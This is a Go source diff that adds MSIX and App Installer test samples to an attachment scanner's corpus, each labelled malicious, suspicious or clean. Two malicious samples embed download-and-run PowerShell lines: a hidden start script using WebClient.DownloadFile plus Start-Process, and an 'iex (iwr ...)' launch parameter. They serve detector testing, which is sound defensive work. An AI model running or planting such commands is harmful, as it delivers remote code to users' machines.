@@ -1,6 +1,15 @@
 package corpus
 
 import (
+	"bytes"
+	"crypto/sha256"
+	"encoding/base64"
+	"fmt"
+	"image"
+	"image/color"
+	"image/png"
+	"strings"
+
 	"github.com/airlockmail/airlock/verdict"
 )
 
@@ -13,6 +22,7 @@ func installerSamples() []Sample {
 	out = append(out, msiSamples()...)
 	out = append(out, jarSamples()...)
 	out = append(out, xllSamples()...)
+	out = append(out, msixSamples()...)
 	return out
 }
 
@@ -123,4 +133,128 @@ func xllSamples() []Sample {
 		{Name: "helper.dll", Want: verdict.Clean, Why: "ordinary DLL with ordinary exports, no Excel callbacks",
 			Data: addinDLL(stdImports, "GetVersionInfo", "Initialize", "Shutdown")},
 	}
+}
+
+// appxManifest is a desktop-bridge manifest with one application.
+func appxManifest(name, executable, entry, extra string) string {
+	return `<?xml version="1.0" encoding="utf-8"?>
+<Package xmlns="http://schemas.microsoft.com/appx/manifest/foundation/windows10"
+  xmlns:uap="http://schemas.microsoft.com/appx/manifest/uap/windows10"
+  xmlns:uap10="http://schemas.microsoft.com/appx/manifest/uap/windows10/10"
+  xmlns:desktop="http://schemas.microsoft.com/appx/manifest/desktop/windows10"
+  xmlns:rescap="http://schemas.microsoft.com/appx/manifest/foundation/windows10/restrictedcapabilities"
+  IgnorableNamespaces="uap uap10 desktop rescap">
+  <Identity Name="Contoso.` + name + `" Publisher="CN=Contoso Ltd, O=Contoso Ltd, C=US" Version="2.4.1.0" ProcessorArchitecture="x64"/>
+  <Properties>
+    <DisplayName>` + name + `</DisplayName>
+    <PublisherDisplayName>Contoso Ltd</PublisherDisplayName>
+    <Logo>Assets\StoreLogo.png</Logo>
+  </Properties>
+  <Dependencies>
+    <TargetDeviceFamily Name="Windows.Desktop" MinVersion="10.0.17763.0" MaxVersionTested="10.0.22621.0"/>
+  </Dependencies>
+  <Resources><Resource Language="en-us"/></Resources>
+  <Applications>
+    <Application Id="App" Executable="` + executable + `" EntryPoint="` + entry + `"` + extra + `>
+      <uap:VisualElements DisplayName="` + name + `" Description="` + name + `" BackgroundColor="transparent"
+        Square150x150Logo="Assets\Square150x150Logo.png" Square44x44Logo="Assets\Square44x44Logo.png"/>
+    </Application>
+  </Applications>
+  <Capabilities>
+    <rescap:Capability Name="runFullTrust"/>
+  </Capabilities>
+</Package>
+`
+}
+
+// MSIX writes a package: the members, the manifest, a block map with the
+// SHA-256 of every 64 KiB block, the content types and (when signed) a
+// signature part.
+func MSIX(manifest string, signed bool, members ...ZipEntry) []byte {
+	members = append([]ZipEntry{{Name: "AppxManifest.xml", Data: []byte(manifest)}}, members...)
+	var bm strings.Builder
+	bm.WriteString(`<?xml version="1.0" encoding="UTF-8"?>` + "\n" + `<BlockMap xmlns="http://schemas.microsoft.com/appx/2010/blockmap" HashMethod="http://www.w3.org/2001/04/xmlenc#sha256">` + "\n")
+	for _, m := range members {
+		fmt.Fprintf(&bm, `<File Name="%s" Size="%d" LfhSize="%d">`, strings.ReplaceAll(m.Name, "/", `\`), len(m.Data), 30+len(m.Name))
+		for off := 0; off < len(m.Data); off += 64 << 10 {
+			sum := sha256.Sum256(m.Data[off:min(len(m.Data), off+64<<10)])
+			fmt.Fprintf(&bm, `<Block Hash="%s"/>`, base64.StdEncoding.EncodeToString(sum[:]))
+		}
+		bm.WriteString("</File>\n")
+	}
+	bm.WriteString("</BlockMap>\n")
+	ct := `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
+		`<Default Extension="xml" ContentType="application/vnd.ms-appx.manifest+xml"/><Default Extension="exe" ContentType="application/x-msdownload"/>` +
+		`<Default Extension="png" ContentType="image/png"/><Default Extension="json" ContentType="application/json"/><Default Extension="ps1" ContentType="application/octet-stream"/>` +
+		`<Override PartName="/AppxBlockMap.xml" ContentType="application/vnd.ms-appx.blockmap+xml"/>` +
+		`<Override PartName="/AppxSignature.p7x" ContentType="application/vnd.ms-appx.signature"/></Types>`
+	all := append(members, ZipEntry{Name: "AppxBlockMap.xml", Data: []byte(bm.String())})
+	if signed {
+		// "PKCX" then a DER SEQUENCE, as signtool writes it (not a real
+		// signature: only its presence is judged).
+		all = append(all, ZipEntry{Name: "AppxSignature.p7x", Data: append([]byte("PKCX\x30\x82\x01\x00"), Noise(256, 7)...)})
+	}
+	return Zip(append(all, ZipEntry{Name: "[Content_Types].xml", Data: []byte(ct)})...)
+}
+
+func msixSamples() []Sample {
+	psfConfig := `{
+  "applications": [
+    {
+      "id": "App",
+      "executable": "ContosoViewer.exe",
+      "workingDirectory": "",
+      "startScript": {
+        "scriptPath": "refresh.ps1",
+        "runInVirtualEnvironment": true,
+        "showWindow": false,
+        "waitForScriptToFinish": false
+      }
+    }
+  ],
+  "processes": [ { "executable": "PsfLauncher.*" } ]
+}
+`
+	startScript := "$u = '" + scriptURL + "'\r\n$p = \"$env:TEMP\\svc.exe\"\r\n(New-Object Net.WebClient).DownloadFile($u, $p)\r\nStart-Process $p -WindowStyle Hidden\r\n"
+	icon := tinyPNG()
+	psf := MSIX(appxManifest("ContosoViewer", "PsfLauncher64.exe", "Windows.FullTrustApplication", ""), true,
+		ZipEntry{Name: "PsfLauncher64.exe", Data: HelloPE()},
+		ZipEntry{Name: "PsfRuntime64.dll", Data: addinDLL(stdImports, "PSFInitialize")},
+		ZipEntry{Name: "ContosoViewer.exe", Data: HelloPE()},
+		ZipEntry{Name: "config.json", Data: []byte(psfConfig)},
+		ZipEntry{Name: "refresh.ps1", Data: []byte(startScript)},
+		ZipEntry{Name: "StartingScriptWrapper.ps1", Data: []byte("param($scriptPath)\r\n& $scriptPath\r\n")},
+		ZipEntry{Name: "Assets/StoreLogo.png", Data: icon})
+	lolbin := MSIX(appxManifest("UpdateHelper", `VFS\SystemX64\WindowsPowerShell\v1.0\powershell.exe`, "Windows.FullTrustApplication",
+		` uap10:Parameters="-w hidden -nop -c iex (iwr `+scriptURL+` -UseBasicParsing)"`), false,
+		ZipEntry{Name: "Assets/StoreLogo.png", Data: icon})
+	plain := MSIX(appxManifest("ContosoViewer", "ContosoViewer.exe", "Windows.FullTrustApplication", ""), true,
+		ZipEntry{Name: "ContosoViewer.exe", Data: HelloPE()},
+		ZipEntry{Name: "Assets/StoreLogo.png", Data: icon})
+	appInst := func(uri string) []byte {
+		return []byte(`<?xml version="1.0" encoding="utf-8"?>
+<AppInstaller xmlns="http://schemas.microsoft.com/appx/appinstaller/2021" Version="1.0.0.0" Uri="` + uri + `.appinstaller">
+  <MainPackage Name="Contoso.ContosoViewer" Publisher="CN=Contoso Ltd, O=Contoso Ltd, C=US" Version="2.4.1.0" ProcessorArchitecture="x64" Uri="` + uri + `.msix"/>
+  <UpdateSettings><OnLaunch HoursBetweenUpdateChecks="24"/></UpdateSettings>
+</AppInstaller>
+`)
+	}
+	return []Sample{
+		{Name: "psf-start-script.msix", Want: verdict.Malicious, Why: "signed-looking MSIX whose PSF config runs a hidden PowerShell start script that downloads and starts a program", Data: psf},
+		{Name: "powershell-app.msix", Want: verdict.Malicious, Why: "unsigned MSIX whose application is powershell.exe with uap10:Parameters that download and run a script", Data: lolbin},
+		{Name: "remote-package.appinstaller", Want: verdict.Suspicious, Why: "App Installer file fetching its package over plain HTTP from a bare IP address", Data: appInst("http://198.51.100.7/viewer")},
+		{Name: "contoso-viewer.msix", Want: verdict.Clean, Why: "signed MSIX that starts its own program with runFullTrust", Data: plain},
+		{Name: "contoso-viewer.appinstaller", Want: verdict.Clean, Why: "App Installer file fetching the vendor's package over HTTPS", Data: appInst("https://apps.example.org/viewer")},
+	}
+}
+
+// tinyPNG is a 16×16 logo.
+func tinyPNG() []byte {
+	img := image.NewRGBA(image.Rect(0, 0, 16, 16))
+	for i := range 16 {
+		img.Set(i, i, color.RGBA{0, 90, 160, 255})
+	}
+	var b bytes.Buffer
+	png.Encode(&b, img)
+	return b.Bytes()
 }
